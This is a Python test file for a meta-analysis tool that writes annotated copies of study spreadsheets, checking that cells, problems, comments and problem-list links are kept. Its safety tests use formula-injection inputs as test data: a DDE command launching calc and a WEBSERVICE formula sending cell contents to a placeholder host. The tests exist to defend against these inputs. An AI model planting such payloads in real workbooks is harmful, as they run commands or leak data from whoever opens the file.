"""The checked copy: same cells, same problems, nothing that runs, and a list with links."""

from __future__ import annotations

import datetime as dt
import io
import re
import sys
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment

import metaalliance as ma
from metaalliance.config import parse_config
from metaalliance.errors import OptionError, UnreadableFileError
from metaalliance.report.workbooks.annotated import annotated_workbook
from metaalliance.report.workbooks.grid_copy import grid_workbook
from metaalliance.sheet.read.grid import FormulaCell, Grid
from metaalliance.sheet.read.source import read_grids

DATA = Path(__file__).resolve().parents[2] / "data"
HEADER = ["study", "r", "n", "t", "df", "p", "outcome_direction", "modality", "percent_female"]
LIVE = '=HYPERLINK("http://example.org", "x")'


def _row(study: Any, r: Any, n: Any = 40, **more: Any) -> list[Any]:
    values = {"study": study, "r": r, "n": n, "outcome_direction": "higher_better", **more}
    return [values.get(name) for name in HEADER]


@pytest.fixture
def written(tmp_path: Path):
    """Write rows to a workbook; `change` edits its sheet."""

    def write(rows: list[list[Any]], title: str = "effects", change: Any = None) -> Path:
        book = Workbook()
        sheet = book.active
        sheet.title = title
        for row in rows:
            sheet.append(row)
        if change is not None:
            change(sheet)
        path = tmp_path / "studies.xlsx"
        book.save(path)
        return path

    return write


@pytest.fixture
def checked(tmp_path: Path):
    """Annotate a file; return its studies, the path of the copy, and the studies of the copy."""

    def check(path: Path, **options: Any) -> tuple[ma.Studies, Path, ma.Studies]:
        studies = ma.load_studies(path, **options)
        copy = tmp_path / "annotated.xlsx"
        copy.write_bytes(annotated_workbook(path, studies))
        return studies, copy, ma.load_studies(copy, **options)

    return check


def _found(studies: ma.Studies) -> list[tuple[str, str, str, str]]:
    return [(p.code, p.sheet, p.cell, p.message) for p in studies.problems]


def _value(value: Any) -> Any:
    """A value with its kind; the text of a formula is not kept."""
    return (type(value).__name__, "" if isinstance(value, FormulaCell) else value)


# Same cells, same problems --------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["simulated_with_problems", "simulated_alliance_studies", "primary_alliance_effects"],
)
def test_copy_has_the_problems_of_the_original(checked, name):
    before, copy, after = checked(DATA / f"{name}.xlsx")
    assert before.problems
    assert _found(after) == _found(before)
    assert [r.number for r in after.used] == [r.number for r in before.used]
    originals = {grid.name: grid for grid in read_grids(DATA / f"{name}.xlsx")[0]}
    copies = read_grids(copy)[0]
    assert (copies[0].name, copies[-1].name) == (before.sheet, "Problems")
    for twin in copies[:-1]:
        grid = originals[twin.name]
        assert [[_value(v) for v in row] for row in twin.rows] == [
            [_value(v) for v in row] for row in grid.rows
        ]


def test_every_kind_of_cell_stays_what_it_is(written, checked):
    cells = [
        "35%", ".35", "−.21", "<.001", "n.s.", "NR", True, dt.datetime(2024, 2, 1),
        dt.datetime(2024, 2, 1, 13, 30), dt.time(6, 0), dt.timedelta(hours=30), "#DIV/0!", 1.07,
        "0.30", "=B2/2", "see\ntext", " .3 ", "#N/A in text", "'.3", "@x", 12345678.25, 0,
    ]  # fmt: skip
    rows = [HEADER, *(_row(f"Study {i}", cell) for i, cell in enumerate(cells))]

    def change(sheet: Any) -> None:
        for number, format_, column in ((0.35, "0%", "B"), (0.6431, "0.00%", "I")):
            cell = sheet[f"{column}{sheet.max_row + 1}"]
            cell.value, cell.number_format = number, format_
            sheet.cell(cell.row, 1, f"Percent {cell.row}")

    before, copy, after = checked(written(rows, change=change))
    assert {"MA302", "MA303", "MA304", "MA305", "MA306", "MA307", "MA308", "MA309", "MA311"} <= {
        p.code for p in before.problems
    }
    assert _found(after) == _found(before)
    (grid,), (twin, _) = read_grids(copy.with_name("studies.xlsx"))[0], read_grids(copy)[0]
    assert [[_value(v) for v in row] for row in twin.rows] == [
        [_value(v) for v in row] for row in grid.rows
    ]


def test_text_that_looks_like_an_error_or_a_number_stays_text(written, checked):
    def change(sheet: Any) -> None:
        for cell, text in (("A2", "#N/A"), ("A3", "007"), ("A4", "1988")):
            sheet[cell].value = text
            sheet[cell].data_type = "s"

    path = written([HEADER, _row("a", 0.1), _row("b", 0.2), _row("c", 0.3)], change=change)
    before, _, after = checked(path)
    assert (
        [r.study for r in after.rows] == [r.study for r in before.rows] == ["#N/A", "007", "1988"]
    )


def test_titles_merges_hidden_parts_and_gaps_recur(written, checked):
    rows = [["A title"], [], HEADER, *(_row(f"S{i}", 0.1 * i, 40 + i) for i in range(1, 7)), [],
            [], _row("Late", 0.2)]  # fmt: skip

    def change(sheet: Any) -> None:
        sheet.merge_cells("A5:A7")
        sheet.merge_cells("A1:F1")
        sheet.row_dimensions[8].hidden = True
        sheet.column_dimensions["H"].hidden = True
        sheet.column_dimensions["I"].hidden = True

    before, copy, after = checked(written(rows, change=change))
    assert {"MA207", "MA209", "MA210", "MA211", "MA301"} <= {p.code for p in before.problems}
    assert _found(after) == _found(before)
    sheet = load_workbook(copy)["effects"]
    assert {str(r) for r in sheet.merged_cells.ranges} == {"A5:A7", "A1:F1"}
    assert sheet.row_dimensions[8].hidden
    # The cells under a merged range are not seen, so that its first cell speaks for them.
    assert re.search(r"MA210.*A6: error MA301.*A7: error MA301", sheet["A5"].comment.text, re.S)


def test_further_sheets_are_copied(tmp_path, checked):
    book = Workbook()
    effects, studies, codebook = book.active, book.create_sheet("studies"), None
    effects.title = "effects"
    codebook = book.create_sheet("codebook")
    book.create_sheet("scratch").append(["left", "out"])
    for row in (["study", "r", "n", "country"], ["A", 0.3, 40, "Norway"], ["B", 0.2, 50, None]):
        effects.append(row)
    for row in (["study", "country", "mean_age"], ["A", "Sweden", 30], ["C", None, "old"]):
        studies.append(row)
    for row in (["column", "level", "aliases"], ["n", "40", ""]):
        codebook.append(row)
    path = tmp_path / "studies.xlsx"
    book.save(path)
    before, copy, after = checked(path)
    assert {p.sheet for p in before.problems} == {"effects", "studies", "codebook"}
    assert _found(after) == _found(before)
    annotated = load_workbook(copy)
    assert annotated.sheetnames == ["effects", "studies", "codebook", "scratch", "Problems"]
    assert annotated["scratch"]["B1"].value == "out"
    assert annotated["studies"]["C3"].comment is not None
    listed = [row[2].value for row in annotated["Problems"].iter_rows(min_row=2)]
    assert "studies!C3" in listed


@pytest.mark.parametrize("separator", [",", ";"])
def test_text_files(tmp_path, checked, separator):
    point = "." if separator == "," else ","
    lines = ["study|r|n|year|notes", "Müller 1991|0.31|45|1991|007", "B|.4|3|1992|", "C|2.5|40||x",
             "D|n.s.|40||", "E|0.250|61|2001|", "F|0.12*|77|1993|"]  # fmt: skip
    text = "\n".join(lines).replace(".", point).replace("n,s,", "n.s.").replace("|", separator)
    path = tmp_path / "a:b [1].csv"
    path.write_text(text, encoding="utf-8")
    before, copy, after = checked(path)
    cells = [(p.code, p.cell) for p in before.problems if p.cell]
    assert len(cells) >= 4
    assert [(p.code, p.cell) for p in after.problems] == cells
    sheet = load_workbook(copy).worksheets[0]
    assert (sheet["B2"].value, sheet["C2"].value, sheet["E2"].value) == (0.31, 45, "007")


def test_a_configuration_counts_for_both(written, checked):
    rows = [["Autor", "Korrelation", "N"], ["A", 1.3, 40], ["B", ".3", 40]]
    config = parse_config({"columns": {"study": "Autor", "r": "Korrelation"}})
    before, _, after = checked(written(rows, title="Tabelle"), config=config)
    assert _found(after) == _found(before) != []


# Marks ----------------------------------------------------------------------------------


def test_cells_are_coloured_by_the_gravest_and_say_why(written, checked):
    rows = [HEADER, _row("A", 1.07), _row("B", ".3", modality="CT"), _row("A ", 0.2, 3)]
    studies, copy, _ = checked(written(rows))
    sheet = load_workbook(copy)["effects"]
    order = ["error", "warning", "note"]
    by_cell: dict[str, list[str]] = {}
    for p in studies.problems:
        by_cell.setdefault(p.cell, []).append(p.severity)
    assert sorted(by_cell["C4"]) == ["error", "warning"]
    fills = {(min(s, key=order.index), sheet[c].fill.fgColor.rgb) for c, s in by_cell.items()}
    assert len(fills) == len(dict(fills)) == 2
    for p in studies.problems:
        note = sheet[p.cell].comment.text
        assert f"{p.severity} {p.code}: {p.message}" in note
        assert not p.hint or p.hint in note
    assert sheet["C2"].comment is None
    assert sheet["C2"].fill.fill_type is None


def test_each_cell_of_one_cause_is_marked_and_listed(written, checked):
    head = ["study", "r", "n", "outcome_measure", "outcome_direction"]
    rows = [[f"S{i}", 0.3, 40 + i, "ORS", "lower_better"] for i in range(12)]
    studies, copy, _ = checked(written([head, *rows]))
    assert [p.code for p in studies.problems].count("MA514") == 1
    book = load_workbook(copy)
    told = [book["effects"].cell(row, 5).comment for row in range(2, 14)]
    assert all(note is not None and "a higher ORS is better" in note.text for note in told)
    listed = [row[1].value for row in book["Problems"].iter_rows(min_row=2)]
    assert listed.count("MA514") == 12


def test_notes_of_the_sheet_are_kept(written, checked):
    def change(sheet: Any) -> None:
        sheet["B2"].comment = Comment("mail of the author", "coder")
        sheet["C2"].comment = Comment("completers", "coder")

    _, copy, _ = checked(written([HEADER, _row("A", 1.07), _row("B", 0.2)], change=change))
    sheet = load_workbook(copy)["effects"]
    assert sheet["B2"].comment.text.startswith("mail of the author\nerror MA312: ")
    assert sheet["B2"].comment.author == "coder"
    assert sheet["C2"].comment.text == "completers"


def test_notes_on_a_long_sheet_are_bounded(written, checked, monkeypatch):
    monkeypatch.setattr("metaalliance.report.workbooks.annotated._MOST_NOTES", 3)
    rows = [HEADER, *(_row(f"S{i}", f".{i}") for i in range(11, 31)), _row("E", 1.07)]
    studies, copy, _ = checked(written(rows))
    sheet = load_workbook(copy)["effects"]
    noted = [c.coordinate for row in sheet for c in row if c.comment]
    assert noted == ["B2", "B3", "B4", "B22"]
    assert sheet["B20"].fill.fill_type == "solid"
    assert load_workbook(copy)["Problems"].max_row == len(studies.problems) + 1


# The list -------------------------------------------------------------------------------


def test_list_has_every_problem_errors_first_with_links(checked):
    studies, copy, _ = checked(DATA / "simulated_with_problems.xlsx")
    sheet = load_workbook(copy)["Problems"]
    rows = list(sheet.iter_rows(min_row=2))
    severities = [row[0].value for row in rows]
    assert severities == sorted(severities, key=["error", "warning", "note"].index)
    assert sorted((row[1].value, row[2].value) for row in rows) == sorted(
        (p.code, p.cell) for p in studies.problems
    )
    for row in rows:
        assert row[2].hyperlink.location == f"'effects'!{row[2].value}"
        assert row[7].value  # what to do
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:H{len(rows) + 1}"


def test_list_is_not_taken_for_a_sheet_with_effects(written, checked):
    rows = [HEADER, _row("Author", 1.3), _row(None, 1.4), _row("study", "r", "n"), _row("M2", 2),
            _row("ok", 0.2)]  # fmt: skip
    before, _, after = checked(written(rows, title="our coding"))
    assert after.sheet == "our coding"
    assert _found(after) == _found(before)


@pytest.mark.parametrize("title", ["Problems", "it's ours", "x" * 31])
def test_sheets_with_inconvenient_names(written, checked, title):
    before, copy, after = checked(written([HEADER, _row("A", 1.07)], title=title))
    assert _found(after) == _found(before)
    book = load_workbook(copy)
    link = book.worksheets[1]["C2"].hyperlink.location
    assert link == "'" + title.replace("'", "''") + "'!B2"
    assert book.worksheets[1].title != title


# Safety ---------------------------------------------------------------------------------


def test_formulas_and_text_like_formulas_are_those_of_the_workbook(written, checked):
    formula = '=WEBSERVICE("http://example.org/" & A1)'

    def change(sheet: Any) -> None:
        sheet["A2"].value = LIVE
        sheet["A2"].data_type = "s"  # text that looks like a formula
        sheet["B3"].value = formula  # without a stored value
        sheet["A3"].value = "+1+1"

    path = written([HEADER, _row("A", 1.2), _row("B", 0.2), _row("C", "=cmd|'/c calc'!A1")],
                   change=change)  # fmt: skip
    before, copy, after = checked(path)
    assert _found(after) == _found(before)
    book = load_workbook(copy)
    sheet = book["effects"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (LIVE, "s")
    assert (sheet["B3"].value, sheet["B3"].data_type) == (formula, "f")
    assert {c.data_type for row in book["Problems"] for c in row if c.value} == {"s"}


def test_formulas_of_other_formats_do_not_run(written):
    """What is made anew from the values of a sheet holds no formula of it."""
    grid = Grid(name="effects", rows=[HEADER[:3], ["A", FormulaCell('=WEBSERVICE("x")'), 40]])
    studies = ma.read_studies(written([HEADER, _row("A", 0.3)]))
    sheet = load_workbook(io.BytesIO(grid_workbook([grid], studies)))["effects"]
    assert sheet["B2"].value == "=\"=WEBSERVICE('x')\""


def test_forbidden_characters_are_dropped(tmp_path, checked):
    path = tmp_path / "studies.csv"
    path.write_text("study,r,n\nAd\x0bler,1.4,40\n", encoding="utf-8")
    _, copy, _ = checked(path)
    assert load_workbook(copy).worksheets[0]["A2"].value == "Adler"


def test_input_is_not_touched_and_bytes_repeat():
    path = DATA / "simulated_with_problems.xlsx"
    content = path.read_bytes()
    studies = ma.load_studies(path)
    assert annotated_workbook(path, studies) == annotated_workbook(path, studies)
    assert path.read_bytes() == content


def test_a_file_that_changed_is_refused(written):
    path = written([HEADER, _row("A", 1.07)])
    studies = ma.load_studies(path)
    written([HEADER, _row("A", 0.07)])
    with pytest.raises(UnreadableFileError, match="changed"):
        annotated_workbook(path, studies)


def test_standard_input_is_refused(monkeypatch):
    stream = io.TextIOWrapper(io.BytesIO(b"study,r,n\nA,1.4,40\n"))
    monkeypatch.setattr(sys, "stdin", stream)
    studies = ma.load_studies("-")
    with pytest.raises(OptionError, match="Standard input"):
        annotated_workbook("-", studies)
